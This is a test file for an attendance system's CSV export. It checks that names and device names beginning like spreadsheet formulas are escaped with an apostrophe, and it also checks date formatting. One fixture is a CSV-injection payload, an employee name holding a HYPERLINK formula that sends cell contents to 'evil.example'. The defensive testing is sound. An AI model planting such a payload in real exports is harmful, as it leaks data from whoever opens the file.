import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../../test-support/testServer.js';
import { punchesCsv } from './csv.js';

// A name typed by someone with admin access, or a device name, must never run as a formula when the
// payroll clerk opens the export in Excel or LibreOffice.
let server: TestServer;
const DAY = '2026-03-10';

async function created(method: string, path: string, body?: unknown) {
  const response = await server.request(method, path, body);
  if (response.status >= 300) throw new Error(`${path}: ${response.status} ${response.text}`);
  return response.body;
}

beforeAll(async () => {
  server = await startTestServer({ env: { TZ: 'America/Mexico_City' } });
  const sucursal = await created('POST', '/api/sucursales', { nombre: '@Norte' });
  await created('POST', '/api/puestos', { nombre: 'Cajero', salarioDiario: 300 });
  const employee = (nombre: string) =>
    created('POST', '/api/employees', {
      nombre,
      sucursal: '@NORTE',
      puesto: 'CAJERO',
      salario: 300,
      bono: 0,
      fechaIngreso: '2026-01-05',
      horaEntrada: '09:00',
      horaSalida: '18:00',
    });
  const names = ['=HYPERLINK("http://evil.example/?x="&A1;"Ver")', '+52 Juan', '-Ana', 'Luis Mora'];
  const ids: number[] = [];
  for (const nombre of names) ids.push((await employee(nombre)).id);

  await server.anonymous('POST', '/api/devices/verify', { fingerprint: 'kiosko-norte-0001' });
  const device = (await created('GET', '/api/devices'))[0];
  await created('POST', `/api/devices/${device.id}/approve`);
  await created('PUT', `/api/devices/${device.id}`, { nombre: '=1+1', sucursalId: sucursal.id });

  const insert = server.db.prepare(
    `INSERT INTO checadas (empleado_id, dispositivo_id, tipo, hora, fecha_local, match_score, created_at) VALUES (?, ?, 'entrada', ?, ?, 0.9, ?)`,
  );
  ids.forEach((id, i) => {
    const hora = `2026-03-10T1${i}:00:00.000Z`;
    insert.run(id, device.id, hora, DAY, hora);
  });
});
afterAll(async () => {
  await server?.close();
});

describe('GET /api/attendance?formato=csv', () => {
  it('writes names that start like a formula as text, with a leading apostrophe', async () => {
    const response = await fetch(`${server.url}/api/attendance?formato=csv&desde=${DAY}&hasta=${DAY}`, { headers: { cookie: server.cookie } });
    expect(response.status).toBe(200);
    const lines = (await response.text())
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n');
    const cells = lines.slice(1).map((line) => line.split(',').slice(4, 8));
    expect(cells).toEqual([
      ['LUIS MORA', "'@NORTE", 'Entrada', "'=1+1"],
      ["'-ANA", "'@NORTE", 'Entrada', "'=1+1"],
      ["'+52 JUAN", "'@NORTE", 'Entrada', "'=1+1"],
      // The doubled quotes are the CSV quoting of the name's own quotes.
      [`"'=HYPERLINK(""HTTP://EVIL.EXAMPLE/?X=""&A1;""VER"")"`, "'@NORTE", 'Entrada', "'=1+1"],
    ]);
    expect(lines.slice(1).every((line) => !/,[=+\-@]/.test(line))).toBe(true);
  });
});

describe('punchesCsv', () => {
  it('also keeps a text that starts with a tab or a carriage return from running as a formula', () => {
    const row = {
      id: 1,
      empleado_id: 7,
      dispositivo_id: 1,
      tipo: 'salida' as const,
      hora: '2026-03-10T20:00:00.000Z',
      fecha_local: DAY,
      match_score: 0.9,
      liveness: null,
      manual: 0,
      nip: 0,
      motivo: null,
      registrado_por: null,
      tiene_foto: 0,
      anulacion_motivo: null,
      anulada_por: null,
      anulada_en: null,
    };
    const csv = punchesCsv([{ ...row, empleado: '\t=1+1', sucursal: null, dispositivo: '\r=1+1' }], 'America/Mexico_City');
    expect(csv.split('\r\n')[1]).toBe(`10/03/2026,14:00:00,10/03/2026,7,'\t=1+1,,Salida,"'\r=1+1",0.900,2026-03-10T14:00:00-06:00,${DAY}`);
  });

  it('writes dates as dd/mm/aaaa for people and repeats them in ISO 8601 for tools (issue 16 item 7)', () => {
    // A night shift's salida at 01:30 on 11 March belongs to the working day of 10 March.
    const row = {
      id: 1,
      empleado_id: 7,
      dispositivo_id: null,
      tipo: 'salida' as const,
      hora: '2026-03-11T07:30:05.000Z',
      fecha_local: DAY,
      match_score: null,
      liveness: null,
      manual: 1,
      nip: 0,
      motivo: 'Olvidó',
      registrado_por: 'admin',
      tiene_foto: 0,
      anulacion_motivo: null,
      anulada_por: null,
      anulada_en: null,
    };
    const [header, line] = punchesCsv([{ ...row, empleado: 'ANA', sucursal: 'CENTRO', dispositivo: 'Checada manual' }], 'America/Mexico_City')
      .replace(/^\uFEFF/, '')
      .split('\r\n');
    expect(header).toBe('Fecha,Hora,Día laboral,ID empleado,Empleado,Sucursal,Tipo,Dispositivo,Similitud,Fecha y hora ISO,Día laboral ISO');
    expect(line).toBe('11/03/2026,01:30:05,10/03/2026,7,ANA,CENTRO,Salida,Checada manual,,2026-03-11T01:30:05-06:00,2026-03-10');
    expect(punchesCsv([{ ...row, empleado: 'ANA', sucursal: null, dispositivo: null }], 'UTC').split('\r\n')[1]).toMatch(
      /^11\/03\/2026,07:30:05,.*,2026-03-11T07:30:05\+00:00,2026-03-10$/,
    );
  });
});
